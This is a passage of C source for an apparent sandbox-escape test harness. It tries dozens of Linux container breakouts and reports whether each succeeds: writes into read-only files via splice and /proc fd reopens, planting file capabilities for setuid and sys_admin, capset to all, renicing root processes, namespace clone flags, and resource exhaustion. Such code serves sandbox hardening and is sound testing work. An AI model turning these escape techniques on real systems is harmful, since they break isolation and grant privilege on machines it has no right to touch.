	getrlimit(RLIMIT_NOFILE, &rl);
	int L = (int)rl.rlim_cur;
	if (L > 65536)
		L = 65536;
	int ev = eventfd(0, EFD_CLOEXEC);
	if (ev < 0) {
		*err = errno;
		return -1;
	}
	int room = L - 16;
	int E = room / 2, D = room - E;
	int *eps = calloc(E, sizeof(int)), *ds = calloc(D, sizeof(int));
	int ne = 0, nd = 0;
	for (; nd < D; nd++)
		if ((ds[nd] = dup(ev)) < 0)
			break;
	for (; ne < E; ne++) {
		if ((eps[ne] = epoll_create1(EPOLL_CLOEXEC)) < 0)
			break;
		for (int j = 0; j < nd; j++) {
			struct epoll_event e = {.events = EPOLLIN};
			if (epoll_ctl(eps[ne], EPOLL_CTL_ADD, ds[j], &e) != 0) {
				*err = errno;
				return 1;
			}
			(*held)++;
		}
		if (now() - t0 > budget_s)
			return 0;
	}
	return 0;
}

static void user_quota_epoll(void) {
	long max = read_long("/proc/sys/fs/epoll/max_user_watches");
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max > 65536 ? 65536 : rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	getrlimit(RLIMIT_NOFILE, &rl);
	fprintf(stderr, "max_user_watches %ld, descriptor limit %ld/%ld\n", max, (long)rl.rlim_cur, (long)rl.rlim_max);
	double t0 = now();
	int budget = 600;
	long total = 0;
	int e = 0, done = 0;
	int rel[2];
	if (pipe(rel) != 0)
		escaped("pipe: %s", strerror(errno));
	/* Two children at once (the lane has two cores), each with a table of its own;
	 * both stop at ENOSPC once the user's count is full, or at the budget. */
	int nk = 2, reps[2];
	for (int k = 0; k < nk; k++) {
		int rep[2];
		if (pipe(rep) != 0)
			escaped("pipe: %s", strerror(errno));
		pid_t c = fork();
		if (c == 0) {
			close(rep[0]);
			close(rel[1]);
			long held = 0;
			int err = 0;
			int r = epoll_fill(budget, t0, &held, &err);
			long msg[2] = {held, r == 1 ? err : 0};
			if (write(rep[1], msg, sizeof msg) < 0)
				_exit(1);
			char b;
			while (read(rel[0], &b, 1) > 0) {
			}
			_exit(0);
		}
		close(rep[1]);
		reps[k] = rep[0];
	}
	for (int k = 0; k < nk; k++) {
		long msg[2] = {0, 0};
		if (read(reps[k], msg, sizeof msg) != sizeof msg)
			msg[1] = -1;
		total += msg[0];
		fprintf(stderr, "child %d holds %ld watches (%.0f s, then: %s)\n", k, msg[0], now() - t0, msg[1] > 0 ? strerror(msg[1]) : "full or budget");
		if (msg[1] > 0)
			e = (int)msg[1], done = 1;
	}
	(void)done;
	printf("holding %ld epoll watches of max_user_watches %ld in %.0f s (then: %s)\n", total, max, now() - t0, e ? strerror(e) : "time");
	fflush(stdout);
	alarm(60);
	char b[16];
	ssize_t r = read(0, b, sizeof b);
	(void)r;
	close(rel[1]);
	while (wait(NULL) > 0) {
	}
	contained();
}

/* The user namespace of the sandbox's own: what does uid 0 in it (caps dropped) reach?
 * Its maps, setgroups, its own per-user quotas (/proc/sys/user), capabilities in any
 * set, calls that need a capability in the namespace or the machine's. */
static void userns_probe(void) {
	char buf[4096];
	const char *show[] = {"/proc/self/uid_map", "/proc/self/gid_map", "/proc/self/setgroups", "/proc/sys/user/max_inotify_instances", "/proc/sys/user/max_user_namespaces"};
	for (unsigned i = 0; i < sizeof show / sizeof *show; i++) {
		int f = open(show[i], O_RDONLY);
		ssize_t n = f >= 0 ? read(f, buf, sizeof buf - 1) : -1;
		if (n < 0)
			n = 0;
		buf[n] = 0;
		printf("%s: %s", show[i], f < 0 ? "(unreadable)\n" : buf);
		if (f >= 0)
			close(f);
	}
	const char *writes[][2] = {{"/proc/self/setgroups", "deny"}, {"/proc/self/uid_map", "0 0 1"}, {"/proc/self/gid_map", "0 0 1"},
				   {"/proc/sys/user/max_inotify_instances", "100000"}, {"/proc/sys/user/max_inotify_watches", "10000000"},
				   {"/proc/sys/user/max_user_namespaces", "100"}, {"/proc/self/oom_score_adj", "-1000"}, {"/proc/self/loginuid", "0"}};
	for (unsigned i = 0; i < sizeof writes / sizeof *writes; i++) {
		int f = open(writes[i][0], O_WRONLY);
		int oe = errno;
		ssize_t n = f >= 0 ? write(f, writes[i][1], strlen(writes[i][1])) : -1;
		int we = errno;
		printf("write %s: open %s, write %zd (%s)\n", writes[i][0], f >= 0 ? "ok" : strerror(oe), n, n < 0 ? strerror(we) : "ok");
		if (n > 0)
			escaped("wrote %s into %s", writes[i][1], writes[i][0]);
		if (f >= 0)
			close(f);
	}
	FILE *st = fopen("/proc/self/status", "r");
	while (st && fgets(buf, sizeof buf, st)) {
		if (!strncmp(buf, "Cap", 3)) {
			printf("%s", buf);
			unsigned long long v = strtoull(strchr(buf, ':') + 1, NULL, 16);
			if (v)
				escaped("a capability set is not empty: %s", buf);
		}
	}
	if (st)
		fclose(st);
	/* Calls that need a capability (in the namespace or the machine's). */
	struct {
		const char *what;
		long r;
	} calls[] = {
		{"setgroups(0)", syscall(SYS_setgroups, 0, NULL)},
		{"setresuid(65534)", syscall(SYS_setresuid, 65534, 65534, 65534)},
		{"setuid(0)", syscall(SYS_setuid, 0)},
		{"keyctl(JOIN_SESSION)", syscall(SYS_keyctl, 1, 0)},
		{"add_key(user)", syscall(SYS_add_key, "user", "x", "y", 1, -3)},
		{"unshare(NEWNS)", syscall(SYS_unshare, CLONE_NEWNS)},
		{"sethostname", syscall(SYS_sethostname, "pwned", 5)},
		{"timerfd(BOOTTIME_ALARM)", syscall(SYS_timerfd_create, 9, 0)},
		{"mount(tmpfs)", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL)},
		{"setpriority(-20)", syscall(SYS_setpriority, 0, 0, -20)},
		{"capset(all)", 0},
	};
	struct {
		uint32_t v, pid;
	} hdr = {0x20080522, 0};
	uint32_t data[6] = {~0u, ~0u, ~0u, ~0u, ~0u, ~0u};
	calls[sizeof calls / sizeof *calls - 1].r = syscall(SYS_capset, &hdr, data);
	for (unsigned i = 0; i < sizeof calls / sizeof *calls; i++) {
		printf("%s = %ld\n", calls[i].what, calls[i].r);
		if (calls[i].r >= 0 && strcmp(calls[i].what, "setuid(0)") && strcmp(calls[i].what, "keyctl(JOIN_SESSION)"))
			escaped("%s succeeded in the sandbox's user namespace", calls[i].what);
	}
	/* The monitor keeps RLIMIT_SIGPENDING and RLIMIT_MSGQUEUE: the real ones must not move. */
	long before = -1, after = -1;
	FILE *lf = fopen("/proc/self/limits", "r");
	while (lf && fgets(buf, sizeof buf, lf))
		if (!strncmp(buf, "Max pending signals", 19))
			sscanf(buf + 26, "%ld", &before);
	if (lf)
		fclose(lf);
	struct rlimit nl = {1, 1};
	long pr = syscall(SYS_prlimit64, 0, RLIMIT_SIGPENDING | (1ul << 32), &nl, NULL);
	long pr2 = syscall(SYS_prlimit64, (long)getpid() | (1l << 32), RLIMIT_SIGPENDING, &nl, NULL);
	lf = fopen("/proc/self/limits", "r");
	while (lf && fgets(buf, sizeof buf, lf))
		if (!strncmp(buf, "Max pending signals", 19))
			sscanf(buf + 26, "%ld", &after);
	if (lf)
		fclose(lf);
	printf("pending signals soft limit %ld -> %ld (prlimit64 %ld, %ld)\n", before, after, pr, pr2);
	contained();
}

/* Metadata calls given a descriptor and an empty path (AT_EMPTY_PATH) on a file in the
 * read-only tree (Landlock ABI 2 has no right for times or owner: the monitor is the
 * only line): utimensat, fchownat, linkat into the writable tree, and the path forms
 * through /proc/self/fd/N. */
static void empty_path_meta(const char *ro, const char *rw) {
	char p[4096], q[4096];
	snprintf(p, sizeof p, "%s/marker", ro);
	struct stat before;
	if (stat(p, &before) != 0)
		escaped("stat %s: %s", p, strerror(errno));
	int fds[2] = {open(p, O_RDONLY), open(p, O_PATH)};
	struct timespec ts[2] = {{12345, 0}, {12345, 0}};
	for (int i = 0; i < 2; i++) {
		int f = fds[i];
		long r1 = syscall(SYS_utimensat, f, "", ts, AT_EMPTY_PATH);
		long r2 = syscall(SYS_fchownat, f, "", 0, 1, AT_EMPTY_PATH);
		snprintf(q, sizeof q, "%s/link%d", rw, i);
		long r3 = syscall(SYS_linkat, f, "", AT_FDCWD, q, AT_EMPTY_PATH);
		char via[64];
		snprintf(via, sizeof via, "/proc/self/fd/%d", f);
		long r4 = syscall(SYS_utimensat, AT_FDCWD, via, ts, 0);
		long r5 = syscall(SYS_chmod, via, 0777);
		snprintf(q, sizeof q, "%s/link%d-b", rw, i);
		long r6 = syscall(SYS_linkat, AT_FDCWD, via, AT_FDCWD, q, AT_SYMLINK_FOLLOW);
		long r7 = syscall(SYS_utimensat, f, NULL, ts, 0);
		long r8 = syscall(SYS_fchmodat, f, "", 0777, AT_EMPTY_PATH);
		printf("fd %d (%s): utimensat %ld, fchownat %ld, linkat %ld, utimensat(proc) %ld, chmod(proc) %ld, linkat(proc) %ld, futimens %ld, fchmodat %ld\n", f,
		       i ? "O_PATH" : "O_RDONLY", r1, r2, r3, r4, r5, r6, r7, r8);
	}
	struct stat after;
	stat(p, &after);
	if (after.st_mtime != before.st_mtime || after.st_gid != before.st_gid || after.st_mode != before.st_mode)
		escaped("the read-only marker changed: mtime %ld -> %ld, gid %d -> %d, mode %o -> %o", (long)before.st_mtime, (long)after.st_mtime, before.st_gid, after.st_gid,
			before.st_mode, after.st_mode);
	if (after.st_nlink != before.st_nlink)
		escaped("the read-only marker got a hard link in the writable tree (nlink %ld -> %ld)", (long)before.st_nlink, (long)after.st_nlink);
	contained();
}

/* The program makes itself a child subreaper: orphans of its grandchildren come to it,
 * not to the supervisor, which frees an orphan's slot in the limits page before its pid
 * can be reused. A grandchild killed outright (SIGKILL by itself) leaves its slot; if
 * nothing frees it, a pid reused outside counts as the sandbox's (its /proc entries,
 * F_SETOWN targets). The attack lets the subreaper reap it the ways the monitor does not
 * know (waitid P_ALL, wait4 of a pid that is not a child of the monitor's list), then
 * looks whether the dead pid is still a sandbox pid: /proc/<pid> of pid 1 is not, so
 * /proc/<pid>/status readable after the pid is gone tells nothing; instead F_SETOWN to
 * the dead pid (accepted only for sandbox pids) is the probe. */
static void subreaper_slot(void) {
	long r = prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
	printf("PR_SET_CHILD_SUBREAPER: %ld\n", r);
	int rep[2];
	if (pipe(rep) != 0)
		escaped("pipe: %s", strerror(errno));
	pid_t b = fork();
	if (b == 0) {
		pid_t c = fork();
		if (c == 0) {
			pid_t me = getpid();
			if (write(rep[1], &me, sizeof me) < 0)
				_exit(1);
			usleep(300000);
			kill(getpid(), SIGKILL);
			_exit(0);
		}
		_exit(0);
	}
	pid_t c = -1;
	if (read(rep[0], &c, sizeof c) != sizeof c)
		escaped("no grandchild pid");
	int st;
	waitpid(b, &st, 0);
	usleep(800000);
	/* Reap the orphan with the broadest wait. */
	siginfo_t si;
	memset(&si, 0, sizeof si);
	long w = syscall(SYS_waitid, P_ALL, 0, &si, WEXITED | WNOHANG, NULL);
	printf("grandchild %d; waitid(P_ALL) = %ld, pid %d, code %d\n", c, w, si.si_pid, si.si_code);
	/* Is the reaped pid still a sandbox pid? The monitor serves /proc/<pid> only for
	 * sandbox pids: ENOENT (allowed, gone) against EACCES (not the sandbox's, as for
	 * /proc/1) tells whether its slot is still held. */
	int pp[2];
	if (pipe(pp) != 0)
		escaped("pipe: %s", strerror(errno));
	struct f_owner_ex ow = {F_OWNER_PID, c};
	long o1 = fcntl(pp[0], F_SETOWN, c);
	long o2 = fcntl(pp[0], F_SETOWN_EX, &ow);
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/status", c);
	int pf = open(path, O_RDONLY);
	int pe = errno;
	int p1 = open("/proc/1/status", O_RDONLY);
	int p1e = errno;
	printf("after reaping %d: F_SETOWN %ld, F_SETOWN_EX %ld, open /proc/%d/status %d (%s); /proc/1/status %d (%s)\n", c, o1, o2, c, pf, pf < 0 ? strerror(pe) : "ok", p1,
	       p1 < 0 ? strerror(p1e) : "ok");
	if (pf < 0 && pe == ENOENT && p1 < 0 && p1e != ENOENT)
		escaped("the reaped orphan's pid %d still counts as the sandbox's (its slot is held: /proc/%d is served, ENOENT, while /proc/1 is refused, %s); once reused outside, that process's /proc entries are the program's", c, c, strerror(p1e));
	if (o1 == 0 || o2 == 0)
		escaped("the reaped orphan's pid %d is still a signal target", c);
	contained();
}


/* ---- round 20 ------------------------------------------------------------------------ */

#include <sys/sendfile.h>
#include <sys/xattr.h>

static int r20_hits;

static void r20_hit(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void r20_hit(const char *fmt, ...) {
	va_list ap;
	va_start(ap, fmt);
	printf("ESCAPED: %s: ", name);
	vprintf(fmt, ap);
	printf("\n");
	va_end(ap);
	fflush(stdout);
	r20_hits++;
}

static void r20_end(void) {
	if (r20_hits)
		exit(1);
	contained();
}

static int r20_marker_intact(const char *ro) {
	char path[4096], buf[64] = {0};
	snprintf(path, sizeof path, "%s/marker", ro);
	int f = open(path, O_RDONLY);
	if (f < 0)
		return 0;
	ssize_t n = read(f, buf, sizeof buf - 1);
	close(f);
	return n == 10 && !memcmp(buf, "read-only\n", 10);
}

/* Data moved between descriptors by the kernel (splice, tee, sendfile,
 * copy_file_range) into a read-only file: through an O_RDONLY and an O_PATH
 * descriptor of it, with and without offsets, and a reopen of its /proc link for
 * writing. The monitor only range-checks these calls; the kernel must refuse. */
static void r20_splice_ro(const char *ro, const char *rw) {
	char path[4096];
	snprintf(path, sizeof path, "%s/marker", ro);
	int fr = open(path, O_RDONLY);
	int fp = open(path, O_PATH);
	int mf = (int)syscall(SYS_memfd_create, "r20", 0);
	if (fr < 0 || fp < 0 || mf < 0) {
		printf("setup failed: %s\n", strerror(errno));
		contained();
	}
	if (write(mf, "PWNED!!!!\n", 10) != 10)
		printf("memfd write failed\n");
	int targets[2] = {fr, fp};
	for (int i = 0; i < 2; i++) {
		int t = targets[i];
		int p[2];
		if (pipe(p) != 0)
			break;
		if (write(p[1], "PWNED!!!!\n", 10) != 10)
			printf("pipe write failed\n");
		loff_t off = 0;
		long r = splice(p[0], NULL, t, &off, 10, 0);
		if (r > 0)
			r20_hit("splice into the read-only marker (%s) moved %ld bytes", i ? "O_PATH" : "O_RDONLY", r);
		printf("splice(pipe -> %s, &off) = %ld (%s)\n", i ? "O_PATH" : "O_RDONLY", r, r < 0 ? strerror(errno) : "ok");
		r = splice(p[0], NULL, t, NULL, 10, 0);
		if (r > 0)
			r20_hit("splice (no offset) into the read-only marker moved %ld bytes", r);
		printf("splice(pipe -> %s) = %ld (%s)\n", i ? "O_PATH" : "O_RDONLY", r, r < 0 ? strerror(errno) : "ok");
		r = tee(p[0], t, 10, 0);
		if (r > 0)
			r20_hit("tee into the read-only marker moved %ld bytes", r);
		off_t o = 0;
		r = sendfile(t, mf, &o, 10);
		if (r > 0)
			r20_hit("sendfile into the read-only marker moved %ld bytes", r);
		printf("sendfile(%s <- memfd) = %ld (%s)\n", i ? "O_PATH" : "O_RDONLY", r, r < 0 ? strerror(errno) : "ok");
		loff_t in = 0, out = 0;
		r = syscall(SYS_copy_file_range, mf, &in, t, &out, 10, 0);
		if (r > 0)
			r20_hit("copy_file_range into the read-only marker moved %ld bytes", r);
		printf("copy_file_range(memfd -> %s) = %ld (%s)\n", i ? "O_PATH" : "O_RDONLY", r, r < 0 ? strerror(errno) : "ok");
		close(p[0]);
		close(p[1]);
	}
	/* The descriptor's /proc link reopened for writing, and through thread-self. */
	const char *fmts[] = {"/proc/self/fd/%d", "/proc/thread-self/fd/%d", "/dev/fd/%d"};
	for (int i = 0; i < 3; i++) {
		for (int k = 0; k < 2; k++) {
			char l[64];
			snprintf(l, sizeof l, fmts[i], targets[k]);
			int w = open(l, O_WRONLY);
			if (w >= 0) {
				long r = write(w, "PWNED!!!!\n", 10);
				r20_hit("reopened %s for writing (write = %ld)", l, r);
				close(w);
			}
		}
	}
	/* A writable file of the program's own spliced from the marker: fine (reading);
	 * the marker's page cache pages in a pipe, then the pipe into a file in rw and
	 * back again with an offset into the marker through O_RDONLY. */
	char dst[4096];
	snprintf(dst, sizeof dst, "%s/r20copy", rw);
	int d = open(dst, O_RDWR | O_CREAT | O_TRUNC, 0644);
	if (d >= 0) {
		loff_t in = 0;
		long r = syscall(SYS_copy_file_range, fr, &in, d, NULL, 10, 0);
		printf("copy_file_range(marker -> rw) = %ld\n", r);
		/* reflink-style: a shared extent; then write into the copy */
		if (pwrite(d, "PWNED!!!!\n", 10, 0) != 10)
			printf("pwrite rw copy failed\n");
		close(d);
	}
	if (!r20_marker_intact(ro))
		r20_hit("the read-only marker's contents changed");
	r20_end();
}

/* /proc/<child>/... of a forked child (a sandbox process, so not refused as
 * foreign): every entry outside the allowlist, and the allowlist's writable ones. */
static void r20_proc_child(void) {
	pid_t c = fork();
	if (c == 0) {
		sleep(30);
		_exit(0);
	}
	usleep(300000);
	const char *denied[] = {"environ", "cmdline", "maps", "smaps", "smaps_rollup", "numa_maps", "mem", "pagemap", "syscall", "stack", "wchan", "exe", "cwd", "root",
				"fd", "fdinfo", "fdinfo/0", "map_files", "mountinfo", "mounts", "mountstats", "net/unix", "net/tcp", "ns/user", "ns/mnt", "clear_refs",
				"coredump_filter", "latency", "sched_autogroup", "projid_map", "arch_status", "patch_state", "ksm_stat", "task/%d/environ",
				"task/%d/maps", "task/%d/mem", "task/%d/syscall", "task/%d/fd", "task/%d/cwd", "task/%d/children/../environ", NULL};
	for (int i = 0; denied[i]; i++) {
		char e[128], p[256];
		snprintf(e, sizeof e, denied[i], c);
		snprintf(p, sizeof p, "/proc/%d/%s", c, e);
		int f = open(p, O_RDONLY | O_NONBLOCK);
		if (f < 0) {
			/* a directory entry might still list */
			continue;
		}
		char b[256];
		long n = read(f, b, sizeof b);
		struct stat st;
		fstat(f, &st);
		if (S_ISDIR(st.st_mode)) {
			DIR *dd = fdopendir(f);
			int cnt = 0;
			struct dirent *de;
			while (dd && (de = readdir(dd)))
				cnt++;
			r20_hit("opened directory %s (%d entries)", p, cnt);
			if (dd)
				closedir(dd);
			continue;
		}
		if (n > 0)
			r20_hit("read %ld bytes of %s: %.60s", n, p, b);
		else
			printf("opened %s, read %ld\n", p, n);
		close(f);
	}
	const char *wr[] = {"oom_score_adj", "comm", "timerslack_ns", "attr/current", "attr/exec", "loginuid", "sched", "setgroups", "uid_map", NULL};
	for (int i = 0; wr[i]; i++) {
		char p[256];
		snprintf(p, sizeof p, "/proc/%d/%s", c, wr[i]);
		int f = open(p, O_WRONLY);
		if (f >= 0) {
			long r = write(f, "1000", 4);
			printf("%s opened for writing, write = %ld (%s)\n", p, r, r < 0 ? strerror(errno) : "ok");
			if (r > 0)
				r20_hit("wrote %s", p);
			close(f);
		}
	}
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	r20_end();
}

/* System V IPC, POSIX message queues, priorities of users and groups, scheduling and
 * I/O priority of other processes, keyrings, kcmp, pidfds of outside processes: each
 * would reach past the sandbox. */
static void r20_ipc_prio(void) {
	long r;
	r = syscall(SYS_shmget, 0 /* IPC_PRIVATE */, 4096, 01000 | 0600);
	if (r >= 0) {
		r20_hit("shmget made segment %ld (machine's IPC namespace)", r);
		syscall(SYS_shmctl, r, 0 /* IPC_RMID */, 0);
	}
	r = syscall(SYS_msgget, 0, 01000 | 0600);
	if (r >= 0) {
		r20_hit("msgget made queue %ld", r);
		syscall(SYS_msgctl, r, 0, 0);
	}
	r = syscall(SYS_semget, 0, 1, 01000 | 0600);
	if (r >= 0) {
		r20_hit("semget made set %ld", r);
		syscall(SYS_semctl, r, 0, 0, 0);
	}
	r = syscall(SYS_mq_open, "r20q", O_CREAT | O_RDWR, 0600, NULL);
	if (r >= 0) {
		r20_hit("mq_open made a queue");
		syscall(SYS_mq_unlink, "r20q");
	}
	errno = 0;
	r = syscall(SYS_setpriority, 2 /* PRIO_USER */, 0, 19);
	if (r == 0)
		r20_hit("setpriority(PRIO_USER, 0, 19) reniced every root process");
	r = syscall(SYS_setpriority, 1 /* PRIO_PGRP */, 0, 19);
	if (r == 0)
		printf("setpriority(PRIO_PGRP, 0) = 0 (own group)\n");
	r = syscall(SYS_setpriority, 0, 1, 19);
	if (r == 0)
		r20_hit("setpriority(PRIO_PROCESS, 1, 19)");
	r = syscall(SYS_setpriority, 0x100000002L, 0, 19);
	if (r == 0)
		r20_hit("setpriority(1<<32 | PRIO_USER, 0, 19) passed");
	r = syscall(SYS_getpriority, 0x100000002L, 0);
	printf("getpriority(1<<32|PRIO_USER) = %ld\n", r);
	r = syscall(SYS_ioprio_set, 3 /* IOPRIO_WHO_USER */, 0, (3 << 13));
	if (r == 0)
		r20_hit("ioprio_set(IOPRIO_WHO_USER, 0) made every root process idle");
	r = syscall(SYS_ioprio_set, 1, 1, (3 << 13));
	if (r == 0)
		r20_hit("ioprio_set(pid 1)");
	struct sched_param sp = {0};
	r = syscall(SYS_sched_setscheduler, 1, 5 /* SCHED_IDLE */, &sp);
	if (r == 0)
		r20_hit("sched_setscheduler(1, SCHED_IDLE)");
	unsigned long mask = 1;
	r = syscall(SYS_sched_setaffinity, 1, sizeof mask, &mask);
	if (r == 0)
		r20_hit("sched_setaffinity(1)");
	r = syscall(SYS_sched_setaffinity, getppid(), sizeof mask, &mask);
	if (r == 0)
		r20_hit("sched_setaffinity(parent %d)", getppid());
	r = syscall(SYS_pidfd_open, 1, 0);
	if (r >= 0)
		r20_hit("pidfd_open(1) = %ld", r);
	r = syscall(SYS_pidfd_open, getppid(), 0);
	if (r >= 0)
		r20_hit("pidfd_open(parent) = %ld", r);
	r = syscall(SYS_kcmp, getpid(), 1, 0 /* KCMP_FILE */, 0, 0);
	if (r >= 0)
		r20_hit("kcmp(self, 1) = %ld", r);
	r = syscall(SYS_add_key, "user", "r20", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */);
	if (r >= 0)
		r20_hit("add_key = %ld", r);
	r = syscall(SYS_migrate_pages, 1, 64, &mask, &mask);
	if (r >= 0)
		r20_hit("migrate_pages(1) = %ld", r);
	r = syscall(SYS_process_madvise, 0, NULL, 0, 0, 0);
	if (r >= 0)
		r20_hit("process_madvise = %ld", r);
	r = syscall(SYS_prlimit64, 0x100000000L | (unsigned)getppid(), RLIMIT_NOFILE, NULL, NULL);
	if (r == 0)
		r20_hit("prlimit64 on the supervisor (pid with high bits)");
	r = syscall(SYS_getpgid, 1);
	printf("getpgid(1) = %ld\n", r);
	r = syscall(SYS_getsid, 1);
	printf("getsid(1) = %ld\n", r);
	r20_end();
}

/* Extended attributes: file capabilities on a file of the writable tree (a file
 * with privilege left behind), user and trusted attributes on the read-only marker;
 * leases and locks on the read-only marker. */
static void r20_xattr_lease(const char *ro, const char *rw) {
	char m[4096], f[4096];
	snprintf(m, sizeof m, "%s/marker", ro);
	snprintf(f, sizeof f, "%s/r20cap", rw);
	int w = open(f, O_RDWR | O_CREAT, 0755);
	if (w >= 0) {
		if (write(w, "#!/bin/sh\n", 10) != 10)
			printf("write failed\n");
		/* VFS_CAP_REVISION_2: cap_setuid|cap_sys_admin permitted + effective. */
		uint32_t cap[5] = {0x02000000 | 1, (1u << 7) | (1u << 21), 0, 0, 0};
		long r = syscall(SYS_setxattr, f, "security.capability", cap, sizeof cap, 0);
		if (r == 0)
			r20_hit("security.capability set on %s", f);
		r = syscall(SYS_fsetxattr, w, "security.capability", cap, sizeof cap, 0);
		if (r == 0)
			r20_hit("fsetxattr(security.capability) on %s", f);
		r = syscall(SYS_fsetxattr, w, "trusted.r20", "x", 1, 0);
		if (r == 0)
			r20_hit("trusted.* attribute set");
		close(w);
	}
	int fr = open(m, O_RDONLY);
	long r = syscall(SYS_setxattr, m, "user.r20", "x", 1, 0);
	if (r == 0)
		r20_hit("setxattr on the read-only marker");
	r = syscall(SYS_lsetxattr, m, "user.r20", "x", 1, 0);
	if (r == 0)
		r20_hit("lsetxattr on the read-only marker");
	r = syscall(SYS_fsetxattr, fr, "user.r20", "x", 1, 0);
	if (r == 0)
		r20_hit("fsetxattr on the read-only marker");
	r = syscall(SYS_removexattr, m, "security.selinux");
	if (r == 0)
		r20_hit("removexattr on the read-only marker");
	r = fcntl(fr, F_SETLEASE, F_RDLCK);
	if (r == 0)
		r20_hit("read lease on the read-only marker");
	printf("F_SETLEASE(F_RDLCK) on ro = %ld (%s)\n", r, r < 0 ? strerror(errno) : "ok");
	/* A lease on a descriptor of a directory in ro. */
	int dd = open(ro, O_RDONLY | O_DIRECTORY);
	r = fcntl(dd, F_SETLEASE, F_RDLCK);
	if (r == 0)
		r20_hit("lease on the read-only directory");
	r = fcntl(dd, F_NOTIFY, DN_MODIFY | DN_MULTISHOT);
	printf("F_NOTIFY on ro dir = %ld (%s)\n", r, r < 0 ? strerror(errno) : "ok");
	r20_end();
}

/* clone and clone3 with flags a sandboxed process may not have: a parent outside
 * (CLONE_PARENT), namespaces, shared descriptor tables or handlers with a separate
 * process, pidfds, a chosen pid, a cgroup; each child that exists exits at once. */
static void r20_clone_flags(void) {
	struct {
		unsigned long f;
		const char *n;
	} cases[] = {
		{0x00008000 | SIGCHLD, "CLONE_PARENT"},
		{0x00020000 | SIGCHLD, "CLONE_NEWNS"},
		{0x10000000 | SIGCHLD, "CLONE_NEWUSER"},
		{0x20000000 | SIGCHLD, "CLONE_NEWPID"},
		{0x40000000 | SIGCHLD, "CLONE_NEWNET"},
		{0x08000000 | SIGCHLD, "CLONE_NEWIPC"},
		{0x00000400 | SIGCHLD, "CLONE_FILES"},
		{0x00000200 | SIGCHLD, "CLONE_FS"},
		{0x00002000 | SIGCHLD, "CLONE_PTRACE"},
		{0x00800000 | SIGCHLD, "CLONE_UNTRACED"},
		{0x80000000UL | SIGCHLD, "CLONE_IO"},
		{0x02000000 | SIGCHLD, "CLONE_NEWCGROUP"},
		{0x00001000 | SIGCHLD, "CLONE_PIDFD"},
		{0x00040000 | SIGCHLD, "CLONE_SYSVSEM (fork)"},
		{0x00000100 | 0x00000800 | SIGCHLD, "CLONE_VM|CLONE_SIGHAND (no thread)"},
		{0x100000000UL | SIGCHLD, "CLONE_CLEAR_SIGHAND-ish high bit"},
		{SIGKILL, "exit signal SIGKILL"},
	};
	for (unsigned i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int pfd = -1;
		long r = syscall(SYS_clone, cases[i].f, 0, &pfd, 0, 0);
		if (r == 0)
			_exit(0);
		if (r > 0) {
			r20_hit("clone(%s) made %ld", cases[i].n, r);
			waitpid((pid_t)r, NULL, __WALL);
		} else {
			printf("clone(%s) = %s\n", cases[i].n, strerror(errno));
		}
	}
	/* clone3 with set_tid and with a cgroup. */
	uint64_t args[11] = {0};
	pid_t want = 1;
	args[4] = SIGCHLD;
	args[8] = (uint64_t)(uintptr_t)&want; /* set_tid */
	args[9] = 1;                          /* set_tid_size */
	long r = syscall(SYS_clone3, args, 88);
	if (r == 0)
		_exit(0);
	if (r > 0) {
		r20_hit("clone3(set_tid) made %ld", r);
		waitpid((pid_t)r, NULL, 0);
	}
	memset(args, 0, sizeof args);
	args[0] = 0x200000000ULL; /* CLONE_INTO_CGROUP */
	args[4] = SIGCHLD;
	args[10] = 0;
	r = syscall(SYS_clone3, args, 88);
	if (r == 0)
		_exit(0);
	if (r > 0) {
		r20_hit("clone3(CLONE_INTO_CGROUP) made %ld", r);
		waitpid((pid_t)r, NULL, 0);
	}
	/* exit_signal 64 with size 64 */
	memset(args, 0, sizeof args);
	args[4] = 64;
	r = syscall(SYS_clone3, args, 64);
	if (r == 0)
		_exit(0);
	if (r > 0) {
		r20_hit("clone3(exit_signal 64) made %ld", r);
		waitpid((pid_t)r, NULL, __WALL);
	}
	r20_end();
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr, "usage: sandbox-attack NAME [ARGS...]\n");
		return 2;
	}
	name = argv[1];
	if (!strcmp(name, "listen-unbound"))
		listen_unbound();
	else if (!strcmp(name, "sendto-unbound"))
		sendto_unbound();
	else if (!strcmp(name, "core-dump"))
		need(argc, 3), core_dump(argv[2]);
	else if (!strcmp(name, "dontfork"))
		dontfork();
	else if (!strcmp(name, "fchmod-race"))
		need(argc, 4), fchmod_race(argv[2], argv[3]);
	else if (!strcmp(name, "resolver-race"))
		need(argc, 4), resolver_race(argv[2], argv[3]);
	else if (!strcmp(name, "raw-sockets"))
		raw_sockets();
	else if (!strcmp(name, "setid-files"))
		need(argc, 3), setid_files(argv[2]);
	else if (!strcmp(name, "madvise-advice"))
		madvise_advice();
	else if (!strcmp(name, "mremap-race"))
		mremap_race();
	else if (!strcmp(name, "reused-pid"))
		reused_pid();
	else if (!strcmp(name, "limits-across-processes"))
		limits_across_processes();
	else if (!strcmp(name, "locks-on-read-only"))
		need(argc, 3), locks_on_read_only(argv[2]);
	else if (!strcmp(name, "terminal-ioctls"))
		terminal_ioctls();
	else if (!strcmp(name, "devices"))
		devices();
	else if (!strcmp(name, "sockopt-pointers"))
		sockopt_pointers();
	else if (!strcmp(name, "proc-fd-listing"))
		proc_fd_listing();
	else if (!strcmp(name, "exec-fd-swap"))
		need(argc, 3), exec_fd_swap(argv[2]);
	else if (!strcmp(name, "rlimit-as"))
		rlimit_as();
	/* round 1 */
	else if (!strcmp(name, "fchmodat2-nofollow"))
		need(argc, 4), fchmodat2_nofollow(argv[2], argv[3]);
	else if (!strcmp(name, "chmod-race"))
		need(argc, 4), chmod_race(argv[2], argv[3]);
	else if (!strcmp(name, "unix-connect-race"))
		need(argc, 4), unix_connect_race(argv[2], argv[3]);
	else if (!strcmp(name, "group-kill"))
		group_kill();
	else if (!strcmp(name, "autoreap-reuse"))
		autoreap_reuse();
	else if (!strcmp(name, "mmap-undercount"))
		need(argc, 3), mmap_undercount(argv[2]);
